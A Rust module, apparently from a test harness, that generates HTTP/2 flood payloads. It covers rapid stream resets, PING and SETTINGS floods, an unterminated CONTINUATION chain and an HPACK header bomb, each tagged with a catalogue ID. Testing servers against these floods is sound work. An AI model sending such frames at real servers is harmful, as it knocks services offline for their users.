//! Floods of frames, a hundred at a time.

use crate::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, block, frame,
};

fn head() -> Vec<u8> {
    block(&[
        (":method", "GET"),
        (":scheme", "http"),
        (":authority", "certs.internal.example"),
        (
            ":path",
            "/api/atlas/v2/groups/32b6e34b3d91647abb200000/databaseUsers/payments-attack/certs",
        ),
        ("authorization", "Bearer x.y.z"),
    ])
}

fn streams(first: u32) -> impl Iterator<Item = u32> {
    (0..50).map(move |number| first + number * 2)
}

/// X01: streams that are reset as soon as they are open.
pub(crate) fn rapid_resets(first: u32) -> Vec<u8> {
    let head = head();
    streams(first)
        .flat_map(|stream| {
            let opened = frame(HEADERS, END_HEADERS | END_STREAM, stream, &head);
            [opened, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
        })
        .collect()
}

/// X06.
pub(crate) fn pings(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, &[0; 8]).repeat(100)
}

/// X06.
pub(crate) fn settings(_: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[]).repeat(100)
}

/// X03: a head without end.
pub(crate) fn continuations(first: u32) -> Vec<u8> {
    let more = frame(CONTINUATION, 0, 1, &block(&[("x", &"x".repeat(1_000))]));
    let mut frames = more.repeat(99);
    if first == 1 {
        frames.splice(0..0, frame(HEADERS, END_STREAM, 1, &head()));
    }
    frames
}

/// X04: an entry of the table, named sixteen thousand times in each head.
pub(crate) fn header_bombs(first: u32) -> Vec<u8> {
    let value = "x".repeat(3_000);
    let mut entry = block(&[("x", &value)]);
    // RFC 7541, section 6.2.1: the same literal, put into the table.
    entry[0] = 0x40;
    let bomb = [head(), entry, vec![0xbe; 8_000]].concat();
    streams(first)
        .flat_map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb))
        .collect()
}
